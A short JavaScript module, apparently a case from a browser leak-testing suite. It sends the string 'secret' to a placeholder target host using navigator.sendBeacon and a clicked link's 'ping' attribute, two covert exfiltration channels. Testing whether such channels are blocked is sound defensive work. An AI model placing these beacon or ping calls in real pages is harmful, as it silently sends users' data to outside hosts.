import { attack, pause, TARGET } from './attack.js';

export const game = attack(async ({ element }) => {
  navigator.sendBeacon(`${TARGET}/beacon`, 'secret');
  const link = document.createElement('a');
  link.href = '#here';
  link.ping = `${TARGET}/ping`;
  element.append(link);
  link.click();
  await pause(300);
});
